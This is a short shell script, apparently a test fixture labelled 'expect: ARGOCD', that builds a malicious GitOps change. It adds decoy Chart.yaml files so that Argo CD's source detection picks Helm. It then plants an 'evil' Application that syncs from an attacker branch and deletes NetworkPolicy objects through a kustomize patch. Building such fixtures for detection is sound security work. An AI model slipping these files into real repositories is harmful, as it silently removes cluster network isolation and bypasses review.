# expect: ARGOCD
# Helm wins Argo CD's source-type detection: a second file ending in Chart.yaml sorts after kustomization.yaml
cat > argocd/Chart.yaml <<'Y'
apiVersion: v2
name: root
version: 0.1.0
Y
cp argocd/Chart.yaml argocd/zzChart.yaml
mkdir -p argocd/templates
cat > argocd/templates/evil.yaml <<'Y'
apiVersion: argoproj.io/v1alpha1
kind: Application
metadata:
  name: evil
  namespace: argocd
spec:
  project: flask-app
  source:
    repoURL: https://github.com/example-org/flask-gitops.git
    targetRevision: attacker-branch
    path: clusters/dev
    kustomize:
      patches:
        - target:
            kind: NetworkPolicy
          patch: |-
            $patch: delete
            kind: NetworkPolicy
            metadata:
              name: x
  destination:
    name: dev
    namespace: flask-app-dev
  syncPolicy:
    automated:
      prune: true
Y
